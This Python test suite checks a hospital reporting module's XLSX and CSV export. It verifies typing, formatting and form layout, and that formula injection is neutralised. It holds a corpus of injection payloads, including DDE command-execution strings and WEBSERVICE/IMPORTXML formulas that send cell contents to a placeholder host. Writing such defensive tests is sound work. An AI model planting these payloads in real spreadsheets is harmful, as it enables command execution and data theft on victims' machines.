"""The tables' promises: text stays text, numbers numbers, missing is not zero, forms look alike."""

import csv
import io
import shutil
import subprocess
import zipfile
from collections.abc import Sequence
from datetime import UTC, datetime
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl.worksheet.worksheet import Worksheet

from telemed.documents import sheets
from telemed.documents.sheets import (
    CUT_OFF,
    LONGEST_TEXT,
    MISSING,
    Cell,
    Column,
    ColumnKind,
    Form,
    Table,
    Workbook,
    inert,
    sheet_names,
    write_csv,
    write_xlsx,
)

AT = datetime(2026, 3, 31, 16, 30, tzinfo=UTC)

PAYLOADS = [
    "=1+1", "=SUM(A1:A9)", "=cmd|' /C calc'!A0", '=HYPERLINK("http://x.example","点我")',
    '=WEBSERVICE("http://x.example/"&A1)', '=IMPORTXML(CONCAT("http://x/",A1),"//a")',
    "=DDE(\"cmd\";\"/C calc\";\"a\")", "=MSEXCEL|'\\..\\..\\x.exe'!''", "=rundll32|'u.dll,z'!A",
    "={1;2;3}", "==1", "= 1+1", "=\t1", "=+1", "=-1", "=@A1", "=A1", "='Sheet 1'!A1",
    "=INDIRECT(\"A1\")", "=T(1)&CHAR(61)", "=EXEC(\"calc\")", "=CALL(\"a\",\"b\",\"J\",0)",
    "=REGISTER(\"a\",\"b\",\"J\")", "=_xlfn.WEBSERVICE(\"http://x\")", "=\u200b1",
    "+1+1", "+cmd|' /C calc'!A0", "+A1", "+SUM(1;2)", "++1", "+86 773 000 0000",
    "-1+1", "-cmd|' /C calc'!A0", "-A1", "-2+3+cmd|' /C calc'!D2", "--1",
    "@SUM(1+9)*cmd|' /C calc'!A0", "@A1", "@SUM(A1)", "@@",
    "\t=1+1", "\t+1", "\r=1+1", "\n=1+1", "\r\n=1+1", "\t\t@A1",
    "＝1+1", "＝cmd|' /C calc'!A0", "＋1", "－1+1", "＠SUM(A1)",
    " =1+1", "\u3000=1+1", "\u00a0+1", "\u200b=1+1", "\ufeff=1+1", "\u2212\u0031",
    "甲;=1+1", "甲;+1", "甲; =1+1", "甲\t=1+1", "甲\n=1+1", "甲\r\n@A1", "甲;＝1+1", '甲";=1+1;"',
    '","=1+1","', "';=1+1", "\x00=1+1", "\x01=1+1", "﹢1",
]  # fmt: skip


def table(rows: Sequence[Sequence[Cell]], *columns: Column, form: Form | None = None) -> Table:
    return Table("表", "标题", columns or (Column("内容"),), rows, form)


def sheet_of(made: Table) -> Worksheet:
    file = openpyxl.load_workbook(io.BytesIO(write_xlsx(book(made))))
    sheet = file.active
    assert isinstance(sheet, Worksheet)
    return sheet


def book(*tables: Table) -> Workbook:
    return Workbook("统计表", "漓江区人民医院", AT, tables)


def csv_rows(made: Table) -> list[list[str]]:
    return list(csv.reader(io.StringIO(write_csv(made).decode("utf-8-sig"), newline="")))


def test_there_are_sixty_payloads() -> None:
    """The corpus is as large as promised and has no repeats."""
    assert len(PAYLOADS) == len(set(PAYLOADS)) >= 60


# --- XLSX --------------------------------------------------------------------------------------


def test_no_payload_becomes_a_formula_in_a_workbook() -> None:
    """Wherever a person's text may stand, the cell is typed as text and holds just that text."""
    made = Table(
        "=1+1",
        "=1+1",
        (Column("=1+1", unit="=1+1"), Column("@A1", ColumnKind.COUNT)),
        [(payload, payload) for payload in PAYLOADS],
        Form("=1+1", "=1+1", ("=1+1",), ("=1+1",)),
    )
    sheet = sheet_of(made)
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert {cell.data_type for cell in cells} == {"s"}
    assert not [cell for cell in cells if cell.hyperlink]
    clean = [payload for payload in PAYLOADS if payload.isprintable()]
    shown = {cell.value for cell in cells}
    assert set(clean) <= shown
    with zipfile.ZipFile(io.BytesIO(write_xlsx(book(made)))) as parts:
        for name in parts.namelist():
            assert b"<f>" not in parts.read(name), name
            assert "externalLink" not in name


def test_each_kind_of_value_keeps_its_type_and_format() -> None:
    """Numbers are numbers with the column's format, times are China's, missing is a dash."""
    kinds = list(ColumnKind)
    columns = [Column(kind, kind) for kind in kinds]
    sheet = sheet_of(
        table(
            [
                ("007", 1234, 12.5, 0.875, AT, 99.9, 1.25, 12345),
                (None,) * 8,
                (0, 0, 0.0, 0.0, None, 0.0, 0.0, 0),
            ],
            *columns,
        )
    )
    first, missing, zero = sheet.iter_rows(min_row=4, max_row=6)
    assert [cell.value for cell in first] == [
        "007", 1234, 12.5, 0.875, datetime(2026, 4, 1, 0, 30), 99.9, 1.25, 12345,  # noqa: DTZ001
    ]  # fmt: skip
    assert [cell.number_format for cell in first][1:] == [
        "#,##0", "#,##0.0", "0.0%", "yyyy-mm-dd hh:mm:ss", "#,##0.00", "#,##0.0#",
        "General",
    ]  # fmt: skip
    assert [cell.value for cell in missing] == [MISSING] * 8
    assert [cell.value for cell in zero] == [0, 0, 0, 0, MISSING, 0, 0, 0]


@pytest.mark.parametrize("value", [float("nan"), float("inf"), float("-inf")])
def test_what_is_no_number_is_missing(value: float) -> None:
    """A figure that could not be computed is a dash in both files, never an error cell."""
    made = table([(value,)], Column("数", ColumnKind.DECIMAL))
    assert sheet_of(made)["A4"].value == MISSING
    assert csv_rows(made)[1] == [MISSING]


def test_a_form_has_its_head_its_definitions_and_its_signers() -> None:
    """Title across, reporting unit and month, units under titles, definitions, signature line."""
    columns = (Column("机构", width=26), Column("报告数", ColumnKind.COUNT, "例"), Column("按时率"))
    form = Form("漓江区人民医院", "2026年3月", ("甲口径", "乙口径"))
    sheet = sheet_of(table([("甲医院", 3, 0.5)], *columns, form=form))
    values = [list(row) for row in sheet.iter_rows(values_only=True)]
    assert values[0][0] == "标题"
    assert values[1] == ["填报单位：漓江区人民医院", None, "统计月份：2026年3月"]
    assert values[2] == ["机构", "报告数", "按时率"]
    assert values[3] == [None, "例", None]
    assert values[4] == ["甲医院", 3, 0.5]
    assert values[5][0] == "口径说明：1. 甲口径"
    assert str(values[6][0]).endswith("2. 乙口径")
    assert "填表人：" in str(values[8][0])
    assert "审核人：" in str(values[8][0])
    merged = {str(area) for area in sheet.merged_cells.ranges}
    assert {"A1:C1", "A2:B2", "A6:C6", "A7:C7", "A9:C9"} <= merged
    assert sheet.freeze_panes == "B5"
    assert sheet.print_title_rows == "$3:$4"
    assert sheet.page_setup.orientation == "landscape"
    assert sheet.column_dimensions["A"].width == pytest.approx(26, abs=1)


def test_a_table_without_a_form_has_no_head_to_fill_in() -> None:
    """A plain table is title, columns, units, rows: no unit reporting, no signature line."""
    sheet = sheet_of(table([("甲",)]))
    assert [cell.value for cell in sheet["A"]] == ["标题", "内容", None, "甲"]


def test_a_single_column_form_can_be_written() -> None:
    """A head with nothing to merge is still a head."""
    sheet = sheet_of(table([("甲",)], form=Form("某医院", "2026年3月")))
    assert sheet["A2"].value == "填报单位：某医院"


def test_an_empty_table_keeps_its_head_and_foot() -> None:
    """A month without a case is a form with no rows, signed all the same."""
    sheet = sheet_of(table([], form=Form("某医院", "2026年3月", ("口径",))))
    assert sheet["A5"].value == "口径说明：1. 口径"


def test_the_same_book_is_the_same_bytes() -> None:
    """The file says nothing of when and where it was written but what it was told."""
    made = table([("甲",)])
    assert write_xlsx(book(made)) == write_xlsx(book(made))


def test_a_text_longer_than_a_cell_is_cut_where_it_can_be_seen() -> None:
    """A cell never silently loses a long text."""
    sheet = sheet_of(table([("甲" * LONGEST_TEXT,), ("甲" * (LONGEST_TEXT + 1),)]))
    assert sheet["A4"].value == "甲" * LONGEST_TEXT
    cut = str(sheet["A5"].value)
    assert cut.endswith(CUT_OFF)
    assert len(cut) == LONGEST_TEXT


@pytest.mark.parametrize("write", [lambda made: write_xlsx(book(made)), write_csv])
def test_a_row_that_does_not_fit_is_refused(write) -> None:  # type: ignore[no-untyped-def]
    """A figure is never written under another column's title."""
    with pytest.raises(ValueError, match="2 in 1 columns"):
        write(table([("甲", "乙")]))
    with pytest.raises(ValueError, match="aware"):
        write(table([(AT.replace(tzinfo=None),)]))


def test_more_rows_than_a_sheet_holds_are_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    """A file that lost its last rows is not made; the room for the foot is kept."""
    monkeypatch.setattr(sheets, "MOST_ROWS", 110)
    rows = [("甲",)] * 8
    assert write_xlsx(book(table(rows[:7])))
    with pytest.raises(ValueError, match="more rows than a sheet can hold"):
        write_xlsx(book(table(rows)))


def test_a_book_needs_a_table() -> None:
    """A file no program opens is not made."""
    with pytest.raises(ValueError, match="needs a table"):
        write_xlsx(book())


def test_sheet_names_are_those_excel_accepts() -> None:
    """Forbidden characters go, long names are cut, and equal names are told apart."""
    assert sheet_names(["a/b:c", "表", "表", "", "[]"]) == ["a b c", "表", "表 2", "表 3", "表 4"]
    assert sheet_names(["History", "'甲'", "A", "a"]) == ["History 2", "甲", "A", "a 2"]
    assert sheet_names(["𠮷" * 20, "\ufffe"]) == ["𠮷" * 15, "表"]


@settings(max_examples=40, deadline=None)
@given(st.lists(st.text(max_size=40), min_size=1, max_size=6))
def test_any_sheet_names_make_a_file_that_opens(wanted: list[str]) -> None:
    """Whatever a service or a county is called, the book can be read back with as many sheets."""
    names = sheet_names(wanted)
    assert len({name.lower() for name in names}) == len(wanted)
    assert all(0 < len(name.encode("utf-16-le")) <= 62 for name in names)
    made = write_xlsx(book(*(Table(name, "标题", (Column("甲"),), []) for name in wanted)))
    assert len(openpyxl.load_workbook(io.BytesIO(made)).sheetnames) == len(wanted)


# --- CSV ---------------------------------------------------------------------------------------


def test_a_csv_is_what_a_chinese_excel_opens_rightly() -> None:
    """Byte order mark, CRLF, quoted text, bare numbers, shares in percent, times in China."""
    columns = (
        Column("机构"), Column("报告数", ColumnKind.COUNT, "例"),
        Column("按时率", ColumnKind.PERCENT, "%"), Column("时间", ColumnKind.TIME),
    )  # fmt: skip
    made = write_csv(table([('甲"院', 3, 2 / 3, AT), ("乙", 0, None, None)], *columns))
    assert made.decode("utf-8").splitlines(keepends=True) == [
        '\ufeff"机构","报告数（例）","按时率（%）","时间"\r\n',
        '"甲""院",3,66.6667,"2026-04-01 00:30:00"\r\n',
        '"乙",0,"—","—"\r\n',
    ]


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_no_payload_starts_a_cell_with_a_formula(payload: str, separator: str) -> None:
    """Whichever separator a program is set to, no cell begins with what it would calculate."""
    made = write_csv(table([(payload, payload)], Column("甲"), Column("乙"))).decode("utf-8-sig")
    for row in csv.reader(io.StringIO(made, newline=""), delimiter=separator):
        for cell in row:
            for line in cell.splitlines():
                assert line.strip("\u200b\ufeff\u00a0\u3000\x01 \t")[:1] not in set(
                    "=+-@＝＋－＠﹢−"
                )


@given(st.text())
def test_only_risky_text_is_changed_and_never_lost(text: str) -> None:
    """Making a text inert adds apostrophes and drops only NUL, which no text file may hold."""
    made = inert(text)
    assert made.replace("'", "") == text.replace("\x00", "").replace("'", "")
    if not set(text) & set("=+-@＝＋－＠\u2212﹢﹣﹦﹫\t\r\n\x00"):
        assert made == text


@pytest.mark.parametrize(
    "text", ["甲-乙", "A=B", "a@b.cn", "1+1=2", "", "—", "（-3）", "3;4", " 甲"]
)
def test_ordinary_text_is_left_alone(text: str) -> None:
    """Signs inside a text are no formula."""
    assert inert(text) == text


# --- opened by an office -------------------------------------------------------------------------

OFFICE = shutil.which("soffice")


def opened_by_office(file: Path, *options: str) -> Worksheet:
    """The file as an office program reads it, saved again as a workbook."""
    assert OFFICE is not None
    out = file.parent / "opened"
    profile = f"-env:UserInstallation=file://{file.parent}/profile"
    command = [OFFICE, profile, "--headless", *options, "--convert-to", "xlsx", "--outdir"]
    subprocess.run([*command, str(out), str(file)], check=True, capture_output=True, timeout=110)
    sheet = openpyxl.load_workbook(out / f"{file.stem}.xlsx").active
    assert isinstance(sheet, Worksheet)
    return sheet


@pytest.mark.skipif(OFFICE is None, reason="no office program installed")
@pytest.mark.parametrize("separator", [44, 59])
def test_an_office_calculates_nothing_in_a_csv(tmp_path: Path, separator: int) -> None:
    """LibreOffice opens every payload, with commas or semicolons, without one formula cell."""
    file = tmp_path / "payloads.csv"
    file.write_bytes(
        write_csv(table([(payload, 7) for payload in PAYLOADS], Column("甲"), Column("乙")))
    )
    # Token 7 on: quoted fields are read like others, special numbers are detected.
    options = f"--infilter=CSV:{separator},34,76,1,,2052,false,true,false,false"
    sheet = opened_by_office(file, options)
    kinds = [cell.data_type for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert len(kinds) >= len(PAYLOADS)
    assert "f" not in kinds


@pytest.mark.skipif(OFFICE is None, reason="no office program installed")
def test_an_office_calculates_nothing_in_a_workbook(tmp_path: Path) -> None:
    """LibreOffice keeps every payload a text and every number a number."""
    file = tmp_path / "payloads.xlsx"
    columns = (Column("甲"), Column("乙", ColumnKind.COUNT))
    file.write_bytes(write_xlsx(book(table([(payload, 7) for payload in PAYLOADS], *columns))))
    sheet = opened_by_office(file)
    rows = list(sheet.iter_rows(min_row=4))
    assert {row[0].data_type for row in rows} == {"s"}
    assert {row[1].value for row in rows} == {7}
